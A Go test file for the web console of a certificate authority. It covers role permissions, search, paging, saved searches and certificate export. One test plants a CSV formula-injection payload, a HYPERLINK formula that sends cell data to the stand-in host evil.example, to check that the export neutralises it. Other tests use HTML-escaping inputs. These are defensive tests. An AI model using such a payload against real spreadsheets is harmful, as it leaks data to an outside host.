package console_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/imca-project/imca/internal/ca"
	"github.com/imca-project/imca/internal/pki"
	"github.com/imca-project/imca/internal/store/storetest"
)

var developer = ca.Principal{Name: "dev", Role: ca.RoleDeveloper, App: "demo", Token: "tok_dev"}

// issue issues a certificate for the app demo.
func (w *world) issue(names ...string) *ca.Certificate {
	w.t.Helper()
	issued, err := w.ca.Issue(w.t.Context(), developer, ca.IssueRequest{Domains: names})
	require.NoError(w.t, err)
	return issued.Certificate
}

// consolePages are all pages that are there for the asking.
func consolePages(c *ca.Certificate) []string {
	return []string{
		"/console", "/console/certificates", "/console/certificates/" + c.Serial.String(), "/console/certificates/" + c.Serial.String() + "/revoke", "/console/revoke",
		"/console/approvals", "/console/apps", "/console/apps/new", "/console/apps/demo", "/console/tokens", "/console/events", "/console/checks", "/console/authorities", "/console/settings",
	}
}

func TestPagesInBothLanguages(t *testing.T) {
	onBoth(t, func(t *testing.T, w *world) {
		cert := w.issue("www.example.com")
		p := w.as(ca.RoleOperator)
		for _, language := range []string{"en", "zh-CN"} {
			p.headers.Set("Accept-Language", language)
			for _, path := range consolePages(cert) {
				a := p.page(path)
				require.Contains(t, a.body, `<html lang="`+language+`">`, path)
				require.Equal(t, 1, strings.Count(a.body, "<h1>"), path)
				require.NotContains(t, a.body, "<no value>", path)
				require.NotContains(t, a.body, "ZgotmplZ", path)
				require.Regexp(t, `aria-current="page"`, a.body, path)
			}
		}
	})
}

func TestAuditorsSeeAndChangeNothing(t *testing.T) {
	onBoth(t, func(t *testing.T, w *world) {
		cert := w.issue("www.example.com")
		p := w.as(ca.RoleAuditor)
		for _, path := range consolePages(cert) {
			switch path {
			case "/console/revoke", "/console/apps/new":
				require.Equal(t, http.StatusForbidden, p.get(path).StatusCode, path)
			default:
				p.page(path)
			}
		}
		require.NotContains(t, p.page("/console/certificates/"+cert.Serial.String()).body, "Revoke")
		for path, form := range posts(cert) {
			require.Equal(t, http.StatusForbidden, p.post(path, form).StatusCode, path)
		}
		found, err := w.ca.Certificate(t.Context(), root, cert.Serial)
		require.NoError(t, err)
		require.Nil(t, found.Revocation)
	})
}

// posts are the forms that change something, filled in so that an operator's would.
func posts(c *ca.Certificate) map[string]url.Values {
	one := "/console/certificates/" + c.Serial.String()
	return map[string]url.Values{
		one + "/revoke":                      {"reason": {"superseded"}, "typed": {c.Names[0].String()}},
		one + "/release":                     {},
		"/console/revoke/count":              {"app": {"demo"}, "reason": {"superseded"}},
		"/console/apps/new":                  {"id": {"new-app"}, "policy": {"prove"}},
		"/console/apps/demo":                 {"name": {"Demo"}, "policy": {"prove"}},
		"/console/apps/demo/tokens":          {"name": {"ci"}},
		"/console/apps/demo/eab":             {"name": {"web"}},
		"/console/apps/demo/tokens/x/revoke": {},
	}
}

func TestDevelopersHaveNoConsole(t *testing.T) {
	w := newWorld(t, sqlite(t))
	cert := w.issue("www.example.com")
	p := w.as(ca.RoleDeveloper)
	for _, path := range []string{"/console", "/console/apps", "/console/events", "/console/authorities", "/console/settings", "/console/apps/new", "/console/apps/other"} {
		require.Contains(t, []int{http.StatusForbidden, http.StatusNotFound}, p.get(path).StatusCode, path)
	}
	other, err := w.ca.Issue(t.Context(), ca.Principal{Name: "o", Role: ca.RoleDeveloper, App: "other"}, ca.IssueRequest{Domains: []string{"other.example.com"}})
	require.NoError(t, err)
	for _, path := range []string{"", "/pem", "/revoke"} {
		require.Equal(t, http.StatusNotFound, p.get("/console/certificates/"+other.Certificate.Serial.String()+path).StatusCode)
	}
	require.NotContains(t, p.page("/console/certificates").body, "other.example.com")
	require.NotContains(t, p.page("/console/certificates.csv").body, "other.example.com")
	require.Contains(t, p.page("/console/certificates.csv").body, cert.Serial.String())
}

func TestSearch(t *testing.T) {
	onBoth(t, func(t *testing.T, w *world) {
		first := w.issue("www.example.com", "api.example.com")
		w.advance(40 * 24 * time.Hour) // 10 April
		second := w.issue("www.example.net")
		ip := w.issue("192.0.2.7")
		_, err := w.ca.Revoke(t.Context(), root, second.Serial, pki.Superseded)
		require.NoError(t, err)
		p := w.as(ca.RoleOperator)
		colons := strings.ToUpper(first.Serial.String())
		fingerprint, key := fmt.Sprintf("%x", first.Fingerprint), fmt.Sprintf("%x", first.SPKIHash)
		for query, want := range map[string][]*ca.Certificate{
			"":                              {first, second, ip},
			"example.com":                   {first},
			".EXAMPLE.com":                  {first},
			"www.example.net":               {second},
			"api.example.com valid":         {first},
			"192.0.2.7":                     {ip},
			"name:192.0.2.7":                {ip},
			first.Serial.String():           {first},
			colons:                          {first},
			"serial:" + colons:              {first},
			fingerprint:                     {first},
			key:                             {first},
			"key:" + key:                    {first},
			"demo":                          {first, second, ip},
			"app:demo revoked":              {second},
			"other":                         nil,
			"revoked":                       {second},
			"已吊销":                           {second},
			"status:valid":                  {first, ip},
			"2026-03-01":                    {first},
			"2026-03":                       {first},
			"2026":                          {first, second, ip},
			"issued:2026-04":                {second, ip},
			"issued:2026-03-01..2026-03-31": {first},
			"issued:..2026-03":              {first},
			"issued:7d":                     {second, ip},
			"expires:2026-05":               {first},
			"expires:60d":                   {first},
			"expires:2026-07..":             {second, ip},
			"profile:client":                nil,
			"authority:TencentQQAuthCA":     nil,
			"authority:TencentQQAuthCA-Issuing valid": {first, ip},
			strings.Repeat("01", 17):                  nil,
			strings.Repeat("01", 32):                  nil,
		} {
			body := p.page("/console/certificates?" + url.Values{"q": {query}}.Encode()).body
			for _, c := range []*ca.Certificate{first, second, ip} {
				link := `href="/console/certificates/` + c.Serial.String() + `"`
				if contains(want, c) {
					require.Contains(t, body, link, "%s must find %s", query, c.Names)
				} else {
					require.NotContains(t, body, link, "%s must not find %s", query, c.Names)
				}
			}
		}
		for _, query := range []string{"exa mple..com", "expires:soon", "status:lost", "serial:12", "a@b", "<b>"} {
			body := p.page("/console/certificates?" + url.Values{"q": {query}}.Encode()).body
			require.Contains(t, body, "Not recognised", query)
			require.NotContains(t, body, first.Serial.String(), query)
		}
		for _, narrowed := range []string{"status=revoked", "issued-from=2026-04-01&profile=server&status=revoked", "expires-until=2026-12-31&status=revoked", "app=demo&issued-until=2026-04-30&q=example.net"} {
			body := p.page("/console/certificates?" + narrowed).body
			require.Contains(t, body, second.Serial.String(), narrowed)
			require.NotContains(t, body, first.Serial.String(), narrowed)
		}
		require.Contains(t, p.page("/console/certificates?issued-from=yesterday").body, "Not recognised")
		require.Equal(t, http.StatusUnprocessableEntity, p.get("/console/certificates?cursor=x").StatusCode)
	})
}

func contains(all []*ca.Certificate, c *ca.Certificate) bool {
	for _, one := range all {
		if one.Serial == c.Serial {
			return true
		}
	}
	return false
}

func TestPagingGoesThroughEverything(t *testing.T) {
	w := newWorld(t, sqlite(t))
	for i := range 120 {
		w.issue(fmt.Sprintf("h%d.example.com", i))
	}
	p := w.as(ca.RoleOperator)
	seen := make(map[string]bool)
	path := "/console/certificates?q=example.com+valid"
	for pages := 1; ; pages++ {
		body := p.page(path).body
		for i := range 120 {
			if strings.Contains(body, fmt.Sprintf(">h%d.example.com<", i)) {
				require.False(t, seen[fmt.Sprint(i)], "twice")
				seen[fmt.Sprint(i)] = true
			}
		}
		next := strings.Index(body, `rel="next"`)
		if next < 0 {
			require.Equal(t, 3, pages)
			break
		}
		start := strings.LastIndex(body[:next], `href="`) + len(`href="`)
		path = strings.ReplaceAll(body[start:start+strings.Index(body[start:], `"`)], "&amp;", "&")
	}
	require.Len(t, seen, 120)
}

func TestSavedSearches(t *testing.T) {
	w := newWorld(t, sqlite(t))
	p := w.as(ca.RoleOperator)
	a := p.post("/console/certificates/saved", url.Values{"name": {"Soon <b>"}, "query": {"q=expires%3A30d&status=valid&evil=1"}})
	require.Equal(t, "/console/certificates?q=expires%3A30d&status=valid&done=saved", a.Header.Get("Location"))
	p.keep(a)
	body := p.page(a.Header.Get("Location")).body
	require.Contains(t, body, `<a href="/console/certificates?q=expires%3A30d&amp;status=valid">Soon &lt;b&gt;</a>`)
	require.Contains(t, body, "The search is saved.")

	a = p.post("/console/certificates/saved", url.Values{"name": {" "}, "query": {"status=valid"}})
	require.Contains(t, a.Header.Get("Location"), "done=not-saved")
	a = p.post("/console/certificates/saved", url.Values{"forget": {"Soon <b>"}})
	p.keep(a)
	require.NotContains(t, p.page("/console/certificates").body, "Soon")

	for i := range 15 {
		p.keep(p.post("/console/certificates/saved", url.Values{"name": {fmt.Sprintf("search %d", i)}, "query": {"status=valid"}}))
	}
	body = p.page("/console/certificates").body
	require.NotContains(t, body, "search 4<")
	require.Contains(t, body, "search 14<")
	for _, broken := range []string{"x", "bnVsbA", "W3sibiI6MX1d"} {
		p.cookies["__Host-imca-searches"] = broken
		p.page("/console/certificates")
	}
}

func TestExport(t *testing.T) {
	onBoth(t, func(t *testing.T, w *world) {
		first := w.issue("www.example.com", "api.example.com")
		w.advance(time.Second)
		second := w.issue("www.example.net")
		_, err := w.ca.Revoke(t.Context(), root, second.Serial, pki.KeyCompromise)
		require.NoError(t, err)
		p := w.as(ca.RoleAuditor)
		a := p.page("/console/certificates.csv?q=app:demo")
		require.Equal(t, "text/csv; charset=utf-8", a.Header.Get("Content-Type"))
		require.Equal(t, `attachment; filename="certificates-20260301-120001.csv"`, a.Header.Get("Content-Disposition"))
		rows, err := csv.NewReader(strings.NewReader(a.body)).ReadAll()
		require.NoError(t, err)
		require.Len(t, rows, 3)
		require.Equal(t, []string{second.Serial.String(), "revoked", "server", "TencentQQAuthCA-Issuing", "demo", "www.example.net", "ecdsa-p256"}, rows[1][:7])
		require.Equal(t, "keyCompromise", rows[1][13])
		require.Equal(t, "www.example.com api.example.com", rows[2][5])

		a = p.page("/console/certificates.json?status=valid")
		require.Equal(t, "application/json", a.Header.Get("Content-Type"))
		var items []map[string]any
		require.NoError(t, json.Unmarshal([]byte(a.body), &items))
		require.Len(t, items, 1)
		require.Equal(t, first.Serial.String(), items[0]["serial"])
		require.Equal(t, []any{"www.example.com", "api.example.com"}, items[0]["domains"])
		require.Nil(t, items[0]["revoked_at"])

		require.NoError(t, json.Unmarshal([]byte(p.page("/console/certificates.json?q=nothing.example").body), &items))
		require.Empty(t, items)
		require.Equal(t, http.StatusUnprocessableEntity, p.get("/console/certificates.csv?q=a@b").StatusCode)
		require.Equal(t, http.StatusSeeOther, w.nobody().get("/console/certificates.csv").StatusCode)
	})
}

// TestExportIsWhole: more than one page of the database.
func TestExportIsWhole(t *testing.T) {
	w := newWorld(t, sqlite(t))
	var all sync.WaitGroup
	for i := range 1100 {
		all.Go(func() {
			c := storetest.NewCertificate("demo", start.Add(time.Duration(i)*time.Microsecond), "www.example.com")
			assert.NoError(t, w.store.RecordCertificate(t.Context(), c, storetest.NewAct(start)))
		})
	}
	all.Wait()
	a := w.as(ca.RoleAuditor).page("/console/certificates.csv")
	require.Equal(t, 1101, strings.Count(a.body, "\r\n"))
}

// TestNoFormulas: what somebody named must not become a formula in the spreadsheet of an operator.
func TestNoFormulas(t *testing.T) {
	w := newWorld(t, sqlite(t))
	_, err := w.ca.Issue(t.Context(), ca.Principal{Name: `=HYPERLINK("https://evil.example/"&A1)`, Role: ca.RoleDeveloper, App: "demo"}, ca.IssueRequest{Domains: []string{"www.example.com"}})
	require.NoError(t, err)
	rows, err := csv.NewReader(strings.NewReader(w.as(ca.RoleAuditor).page("/console/certificates.csv").body)).ReadAll()
	require.NoError(t, err)
	require.Equal(t, `'=HYPERLINK("https://evil.example/"&A1)`, rows[1][10])
}

func TestCertificatePage(t *testing.T) {
	onBoth(t, func(t *testing.T, w *world) {
		cert := w.issue("www.example.com", "api.example.com")
		p := w.as(ca.RoleOperator)
		body := p.page("/console/certificates/" + cert.Serial.String()).body
		for _, want := range []string{
			"www.example.com", "api.example.com", cert.Serial.String(), fmt.Sprintf("%x", cert.Fingerprint), "serverAuth", "digitalSignature", "CN=TencentQQAuthCA-Issuing",
			"http://ca.example/crl/", "all passed", "issue a server certificate", `href="/console/apps/demo"`, `href="/console/authorities#TencentQQAuthCA"`,
		} {
			require.Contains(t, body, want)
		}
		certificates, err := pki.ParseCertificates([]byte(p.page("/console/certificates/" + cert.Serial.String() + "/pem").body))
		require.NoError(t, err)
		require.Len(t, certificates, 1)
		certificates, err = pki.ParseCertificates([]byte(p.page("/console/certificates/" + cert.Serial.String() + "/pem?chain=1").body))
		require.NoError(t, err)
		require.Len(t, certificates, 3)

		require.Equal(t, http.StatusNotFound, p.get("/console/certificates/"+strings.Repeat("01", 17)).StatusCode)
		require.Equal(t, http.StatusNotFound, p.get("/console/certificates/nonsense").StatusCode)
	})
}
